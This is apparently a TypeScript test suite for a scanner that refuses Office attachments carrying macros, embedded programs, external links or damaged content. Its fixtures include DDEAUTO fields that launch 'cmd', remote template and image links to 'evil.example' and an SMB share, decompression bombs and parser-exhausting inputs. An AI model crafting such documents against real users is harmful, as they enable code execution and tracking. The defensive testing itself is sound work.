import { describe, expect, test } from 'vitest';
import { oleFile, zipFile, zipOf, zipParts } from '../../../tests/support/files/office-files.ts';
import { DOCUMENT_ATTACHMENTS } from './document-files.ts';
import { officeHazard } from './office-files.ts';

const RELATIONS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const relations = (...links: [type: string, target: string][]) =>
  `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${links
    .map(
      ([type, target], index) =>
        `<Relationship Id="rId${index}" Type="${RELATIONS}/${type}" Target="${target}" TargetMode="External"/>`,
    )
    .join('')}</Relationships>`;
const TYPES = '<Types><Override PartName="/word/document.xml" ContentType="application/xml"/></Types>';
const word = (parts: Readonly<Record<string, string | Uint8Array>> = {}) =>
  zipOf({ '[Content_Types].xml': TYPES, 'word/document.xml': '<w:document/>', ...parts });
const text = (content: string) => [...content].map((letter) => letter.charCodeAt(0));
const wide = (content: string) => [...content].flatMap((letter) => [letter.charCodeAt(0), 0]);

describe('a document that runs something when it is opened', () => {
  test.each([
    ['has VBA', word({ 'word/vbaProject.bin': 'x' })],
    ['has VBA in a folder of another case', word({ 'Word\\VBAPROJECT.BIN': 'x' })],
    [
      'says that it has macros',
      word({
        '[Content_Types].xml': TYPES.replace(
          'application/xml',
          'application/vnd.ms-word.document.macroEnabled.main+xml',
        ),
      }),
    ],
    ['has controls', word({ 'word/activeX/activeX1.bin': 'x' })],
    ['has macros of Excel 4.0', word({ 'xl/macrosheets/sheet1.xml': '<x/>' })],
    ['has a packaged program', word({ 'word/embeddings/oleObject1.bin': oleFile('\u0001Ole10Native') })],
    ['has another with macros', word({ 'word/embeddings/a.docx': word({ 'word/vbaProject.bin': 'x' }) })],
    [
      'has an old one with macros',
      word({ 'word/embeddings/a.xls': oleFile('Workbook', { others: ['_VBA_PROJECT_CUR'] }) }),
    ],
    ['has an add-in', word({ 'word/afchunk.docm': 'x' })],
    [
      'starts a program by a field',
      word({ 'word/document.xml': '<w:instrText xml:space="preserve"> DDEAUTO c:\\cmd "/c"</w:instrText>' }),
    ],
    [
      'starts a program by a field in pieces',
      word({ 'word/header1.xml': '<w:instrText>DD</w:instrText><w:t/><w:instrText>EAUTO c:\\cmd</w:instrText>' }),
    ],
    ['starts a program by a simple field', word({ 'word/footer1.xml': `<w:fldSimple w:instr='&#x44;DE "cmd"'/>` })],
    [
      'gets data of a program',
      word({ 'xl/externalLinks/externalLink1.xml': '<externalLink><ddeLink ddeService="cmd"/></externalLink>' }),
    ],
    ['is old and has VBA', oleFile('WordDocument', { others: ['Macros'] })],
    ['is old and has a packaged program', oleFile('PowerPoint Document', { others: ['\u0001Ole10Native'] })],
    ['is old and starts a program by a field', oleFile('WordDocument', { content: text('\u0013 ddeauto c:\\cmd') })],
    [
      'is old and starts a program by a field in two bytes a letter',
      oleFile('WordDocument', { content: wide('DDEAUTO') }),
    ],
    [
      'is old and has a sheet of macros',
      oleFile('Workbook', { content: [0x85, 0, 14, 0, 1, 2, 3, 0, 1, 1, 6, 0, ...text('Macro1')] }),
    ],
    [
      'is old slides with macros',
      oleFile('PowerPoint Document', {
        content: [0x1f, 0, 0xff, 3, 0x14, 0, 0, 0, 2, 0, 0, 4, 12, 0, 0, 0, 9, 0, 0, 0, 1, 0, 0, 0, 2],
      }),
    ],
  ])('a document that runs something when it is opened is refused: %s', async (_name, bytes) => {
    expect(await officeHazard(bytes)).toBe('program');
  });
});

describe('a document that asks another computer when it is opened', () => {
  test.each([
    [
      'a template',
      word({ 'word/_rels/settings.xml.rels': relations(['attachedTemplate', 'https://evil.example/a.dotm']) }),
    ],
    [
      'a template of a share',
      word({ 'word/_rels/settings.xml.rels': relations(['attachedTemplate', String.raw`\\evil.example\a.dotm`]) }),
    ],
    [
      'a template of a share as an address',
      word({ 'word/_rels/settings.xml.rels': relations(['attachedTemplate', 'file://evil.example/a.dotm']) }),
    ],
    ['a picture', word({ 'word/_rels/document.xml.rels': relations(['image', 'http://evil.example/pixel.png']) })],
    [
      'an object',
      word({ 'ppt/slides/_rels/slide1.xml.rels': relations(['oleObject', 'mhtml:https://evil.example/a!x']) }),
    ],
    ['a frame', word({ 'word/_rels/webSettings.xml.rels': relations(['frame', '&#104;ttps://evil.example/']) })],
    [
      'a template, in an alphabet of two bytes a letter',
      word({
        'word/_rels/settings.xml.rels': Uint8Array.from([
          0xff,
          0xfe,
          ...wide(relations(['attachedTemplate', 'https://evil.example/'])),
        ]),
      }),
    ],
  ])('a document that contacts another computer when it is opened is refused: %s', async (_name, bytes) => {
    expect(await officeHazard(bytes)).toBe('link');
  });
});

test('a document with links that its reader follows, or to files of its own computer, is taken', async () => {
  const harmless = word({
    'word/_rels/document.xml.rels': relations(
      ['hyperlink', 'https://supplier.example/'],
      ['hyperlink', 'mailto:a@b.example'],
    ),
    'word/_rels/settings.xml.rels': relations(['attachedTemplate', 'file:///C:\\Users\\anna\\Normal.dotm']),
    'xl/externalLinks/_rels/externalLink1.xml.rels': relations([
      'externalLinkPath',
      'https://firm.sharepoint.example/prices.xlsx',
    ]),
    'xl/externalLinks/externalLink1.xml': '<externalLink><externalBook/></externalLink>',
    'word/document.xml': '<w:instrText> PAGE </w:instrText><w:t>Pins added to the DDE list</w:t>',
    'word/embeddings/Microsoft_Excel_Sheet.xlsx': zipOf({
      '[Content_Types].xml': '<Types/>',
      'xl/workbook.xml': '<x/>',
    }),
    'word/embeddings/oleObject1.bin': oleFile('Equation Native'),
  });
  expect(await officeHazard(harmless)).toBeNull();
  expect(await officeHazard(oleFile('WordDocument'))).toBeNull();
  expect(
    await officeHazard(oleFile('Workbook', { content: [0x85, 0, 14, 0, 1, 2, 3, 0, 0, 0, 6, 0, ...text('Sheet1')] })),
  ).toBeNull();
});

test('a document that unfolds without end, hides in itself or is broken is refused as damaged', async () => {
  const bomb = 'x'.repeat(40 * 1024 * 1024);
  expect(await officeHazard(word({ 'word/document.xml': bomb }))).toBe('damaged');
  expect(await officeHazard(word({ 'word/_rels/a.xml.rels': `<!DOCTYPE x [<!ENTITY a "b">]>${relations()}` }))).toBe(
    'damaged',
  );
  let nested = word();
  for (let depth = 0; depth < 5; depth += 1) nested = word({ 'word/embeddings/a.docx': nested });
  expect(await officeHazard(nested)).toBe('damaged');
  const broken = word({ 'word/_rels/a.xml.rels': relations(['image', 'https://evil.example/'.repeat(50)]) });
  broken.fill(0xff, 30, 80);
  expect(await officeHazard(broken)).toBe('damaged');
});

test('the refusal of a document names the true reason and the remedy', async () => {
  const said = async (name: string, bytes: Uint8Array | string) => {
    const inspected = await DOCUMENT_ATTACHMENTS.inspect(
      name,
      typeof bytes === 'string' ? new TextEncoder().encode(bytes) : bytes,
    );
    return 'refusal' in inspected ? inspected.refusal.text : inspected.extension;
  };
  const save = 'save it as PDF, DOCX, XLSX or PPTX';
  expect(await said('letter.doc', '{\\rtf1\\ansi')).toBe(`The content of letter.doc is RTF: ${save}`);
  expect(await said('list.xls', '\uFEFF\r\n<!DOCTYPE html><table>')).toBe(`The content of list.xls is HTML: ${save}`);
  expect(await said('list.xls', '<html xmlns:x="urn:schemas-microsoft-com:office:excel">')).toBe(
    `The content of list.xls is HTML: ${save}`,
  );
  expect(await said('list.xls', 'MIME-Version: 1.0\r\n')).toBe(`The content of list.xls is MHTML: ${save}`);
  expect(await said('list.xls', '<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?>')).toBe(
    `The content of list.xls is XML: ${save}`,
  );
  expect(await said('list.ods', zipFile('mimetype', 'META-INF/manifest.xml', 'content.xml'))).toBe(
    `The content of list.ods is OpenDocument: ${save}`,
  );
  expect(await said('list.xlsm', zipFile('[Content_Types].xml', 'xl/workbook.xml'))).toBe(
    `The content of list.xlsm is XLSX: ${save}`,
  );
  expect(await said('list.xls', zipFile('[Content_Types].xml', 'xl/workbook.xml'))).toBe(
    `The content of list.xls is XLSX: ${save}`,
  );
  expect(await said('plan.docx', word({ 'word/vbaProject.bin': 'x' }))).toBe(
    'plan.docx has macros or programs in it: save it without them, or as PDF',
  );
  expect(
    await said('plan.docx', word({ 'word/_rels/a.xml.rels': relations(['image', 'https://evil.example/']) })),
  ).toBe('plan.docx loads something from another computer: save it without that, or as PDF');
  expect(await said('tool.exe', 'MZ')).toBe('Only PDF, Word, Excel and PowerPoint files can be attached');
});

test('documents as printers, scanners and other programs write them are taken', async () => {
  const extension = async (name: string, bytes: Uint8Array) => {
    const inspected = await DOCUMENT_ATTACHMENTS.inspect(name, bytes);
    return 'extension' in inspected ? inspected.extension : inspected.refusal.text;
  };
  for (const head of [
    '',
    '\uFEFF',
    '\r\n\r\n',
    '\0\0',
    '\u001b%-12345X@PJL SET RESOLUTION=600\r\n@PJL ENTER LANGUAGE=PDF\r\n',
  ])
    expect(await extension('a.pdf', new TextEncoder().encode(`${head}%PDF-1.4`)), JSON.stringify(head)).toBe('pdf');
  expect(await extension('a.xlsx', zipOf({ '[Content_Types].xml': '<Types/>', 'xl\\workbook.xml': '<x/>' }))).toBe(
    'xlsx',
  );
  expect(await extension('a.xls', oleFile('Workbook', { others: ['WordDocument'] }))).toBe('xls');
});

describe('an address on another computer is found however its tag is written', () => {
  const relation = (attributes: string, tag = 'Relationship') =>
    word({ 'word/_rels/document.xml.rels': `<Relationships><${tag} ${attributes}/></Relationships>` });
  const foreign = `Type="${RELATIONS}/attachedTemplate" TargetMode="External" Target="https://evil.example/a.dotm"`;
  test.each([
    ['after ">" in a value', relation(`Id="a>b" ${foreign}`)],
    ['after a value that looks like its address', relation(`Id="a Target='a.xml' TargetMode='Internal'" ${foreign}`)],
    ['with a prefix that is no word', relation(foreign, 'a-b:Relationship')],
    ['in single quotes', relation(foreign.replaceAll('"', "'"))],
  ])('%s', async (_what, file) => {
    expect(await officeHazard(file)).toBe('link');
  });
});

describe('a file cannot keep its inspection busy', () => {
  const packed = Uint8Array.from({ length: 1024 * 1024 }, (_, at) => [0, 0, 0, 0xff, 0xff][at % 5] ?? 0);
  test.each([
    ['fields that never end', null, word({ 'word/document.xml': '<instrText '.repeat(1_500_000) })],
    ['values of fields that never end', null, word({ 'word/document.xml': '<instrText a="'.repeat(1_500_000) })],
    ['relations that never end', null, word({ 'a.rels': '<Relationship '.repeat(140_000) })],
    ['a name without end', null, word({ 'a.rels': `<Relationship ${'a'.repeat(2_000_000)}>` })],
    ['long paths', 'damaged', word({ ['activex/'.repeat(8_000)]: '' })],
    [
      'many documents that unpack to much',
      'damaged',
      word(
        Object.fromEntries(
          Array.from({ length: 300 }, (_, n) => [
            `word/embeddings/${n}.docx`,
            word({ 'word/document.xml': ' '.repeat(20_000_000) }),
          ]),
        ),
      ),
    ],
    [
      'parts that unpack to nothing',
      'damaged',
      zipParts(Array.from({ length: 60 }, (_, n) => ({ name: `word/${n}.xml`, data: packed, method: 8 }))),
    ],
  ] as const)('with %s', async (_what, verdict, file) => {
    const started = performance.now();
    const hazard = await officeHazard(file);
    expect(performance.now() - started).toBeLessThan(8_000);
    expect(hazard).toBe(verdict);
  });
});

test('a tag that is too long to be searched makes a document damaged', async () => {
  const letters = `<w:instrText ${'a'.repeat(25_000_000)}`;
  expect(await officeHazard(word({ 'word/document.xml': letters }))).toBe('damaged');
});
